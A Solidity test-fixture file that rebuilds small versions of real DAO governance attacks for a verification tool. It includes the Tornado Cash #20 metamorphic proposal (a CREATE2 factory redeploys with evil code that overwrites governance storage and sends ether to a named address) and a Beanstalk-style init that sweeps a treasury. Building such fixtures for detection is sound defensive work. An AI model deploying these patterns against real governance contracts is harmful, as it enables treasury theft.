// SPDX-License-Identifier: MIT
// The shapes of real governance attacks, rebuilt small for steward's verification tests
// (docs/verify.md): Tornado Cash #20 (a proposal contract with a selfdestruct path, deployed
// through a CREATE2 factory and redeployable with different code at the same address),
// Beanstalk BIP-18 (a diamond init that sweeps the treasury), Compound 289 / goldCOMP (treasury
// COMP granted into a vault only an outside multisig can withdraw from), Synthetify (look-alike
// parameter proposals) and the benign Certora payment stream (a Sablier v1 look-alike).
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";
import {ERC1155} from "@openzeppelin/contracts/token/ERC1155/ERC1155.sol";

/// A plain ERC-20 with its whole supply minted to the deployer.
contract ShapeToken is ERC20 {
    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_) {
        _mint(msg.sender, supply);
    }
}

// ---- Tornado Cash #20 -------------------------------------------------------------------------

/// What voters were shown: penalize relayers (emits), plus a hidden way to destroy itself.
contract TornadoProposal {
    event RelayerPenalized(address relayer);

    function executeProposal() external {
        emit RelayerPenalized(address(0xcBD78860218160F4b463612f30806807Fe6E804C));
    }

    function emergencyStop() external {
        selfdestruct(payable(msg.sender));
    }
}

/// What ran instead: the same entry point writing the governance contract's storage (it is
/// delegatecalled), e.g. giving the attacker locked balances.
contract TornadoProposalEvil {
    function executeProposal() external {
        assembly {
            sstore(59, 10000000000000000000000)
        }
        // And the governance's ether, to the attacker of 2023 (nothing when there is none).
        (bool ok,) = payable(0x592340957eBC9e4Afb0E9Af221d06fDDDF789de9).call{value: address(this).balance}("");
        require(ok, "send failed");
    }

    function emergencyStop() external {
        selfdestruct(payable(msg.sender));
    }
}

/// Created by CREATE2; creates the proposal with CREATE (its nonce restarts at 1 after it is
/// destroyed and recreated, so the proposal address repeats) and can destroy itself.
contract TransientDeployer {
    address public deployed;

    constructor() {
        if (MetamorphicFactory(msg.sender).evil()) {
            deployed = address(new TornadoProposalEvil());
        } else {
            deployed = address(new TornadoProposal());
        }
    }

    function destroy() external {
        selfdestruct(payable(msg.sender));
    }
}

contract MetamorphicFactory {
    bool public evil;

    function setEvil(bool e) external {
        evil = e;
    }

    function deploy(bytes32 salt) external returns (address transient, address proposal) {
        TransientDeployer t = new TransientDeployer{salt: salt}();
        return (address(t), t.deployed());
    }
}

/// Tornado-style governance: a proposal is a contract, executed by delegatecall.
contract DelegateGovernance {
    function execute(address proposal) external {
        (bool ok,) = proposal.delegatecall(abi.encodeWithSignature("executeProposal()"));
        require(ok, "proposal failed");
    }
}

// ---- Beanstalk BIP-18 -------------------------------------------------------------------------

/// A diamond holding the treasury; its owner (the timelock) may cut and run an init by
/// delegatecall.
contract DiamondLike {
    struct FacetCut {
        address facetAddress;
        uint8 action;
        bytes4[] functionSelectors;
    }

    address public immutable owner;

    constructor(address owner_) {
        owner = owner_;
    }

    function diamondCut(FacetCut[] calldata cut, address init, bytes calldata data) external {
        require(msg.sender == owner, "not owner");
        require(cut.length == 0, "cuts not supported");
        (bool ok,) = init.delegatecall(data);
        require(ok, "init failed");
    }
}

/// The "init": sends everything the caller holds of `token` to `to`.
contract SweepInit {
    address public immutable token;
    address public immutable to;

    constructor(address token_, address to_) {
        token = token_;
        to = to_;
    }

    function sweep() external {
        IERC20(token).transfer(to, IERC20(token).balanceOf(address(this)));
    }
}

// ---- Compound 289 / goldCOMP ------------------------------------------------------------------

/// A Comptroller look-alike holding COMP; its admin (the timelock) grants it out.
contract MiniComptroller {
    address public immutable admin;
    IERC20 public immutable comp;

    constructor(address admin_, IERC20 comp_) {
        admin = admin_;
        comp = comp_;
    }

    function _grantComp(address recipient, uint256 amount) external {
        require(msg.sender == admin, "only admin can grant comp");
        require(comp.transfer(recipient, amount), "insufficient comp for grant");
    }
}

/// The vault: deposited COMP can be withdrawn only by the outside multisig's role.
contract GoldVault is AccessControl {
    bytes32 public constant WITHDRAW_ROLE = keccak256("WITHDRAW_ROLE");

    constructor(address multisig) {
        _grantRole(DEFAULT_ADMIN_ROLE, multisig);
        _grantRole(WITHDRAW_ROLE, multisig);
    }

    function withdraw(IERC20 token, address to, uint256 amount) external onlyRole(WITHDRAW_ROLE) {
        token.transfer(to, amount);
    }
}

// ---- Synthetify look-alikes -------------------------------------------------------------------

contract ParamStore {
    address public immutable owner;
    uint256 public fee;

    constructor(address owner_) {
        owner = owner_;
    }

    function setFee(uint256 bps) external {
        require(msg.sender == owner, "not owner");
        fee = bps;
    }
}

// ---- Certora payment stream (benign) ----------------------------------------------------------

/// Sablier v1's createStream, enough of it: pulls the deposit and records the stream.
contract MiniSablier {
    struct Stream {
        address sender;
        address recipient;
        uint256 deposit;
        address token;
        uint256 start;
        uint256 stop;
    }

    uint256 public nextStreamId = 100000;
    mapping(uint256 => Stream) public streams;

    function createStream(address recipient, uint256 deposit, address tokenAddress, uint256 startTime, uint256 stopTime)
        external
        returns (uint256 id)
    {
        require(stopTime > startTime, "stop time before the start time");
        require(deposit % (stopTime - startTime) == 0, "deposit not multiple of time delta");
        require(IERC20(tokenAddress).transferFrom(msg.sender, address(this), deposit), "token transfer failure");
        id = nextStreamId++;
        streams[id] = Stream(msg.sender, recipient, deposit, tokenAddress, startTime, stopTime);
    }
}

// ---- Simulation: ERC-1155 and ether moved by internal calls ----------------------------------

/// An ERC-1155 with ids 7 (100 units) and 8 (5 units) minted to `to`.
contract ShapeMultiToken is ERC1155 {
    constructor(address to) ERC1155("") {
        _mint(to, 7, 100, "");
        _mint(to, 8, 5, "");
    }
}

/// Passes the ether it receives on to `to`: the payment shows only in a call trace.
contract EthForwarder {
    function forward(address payable to) external payable {
        (bool ok,) = to.call{value: msg.value}("");
        require(ok, "forward failed");
    }
}
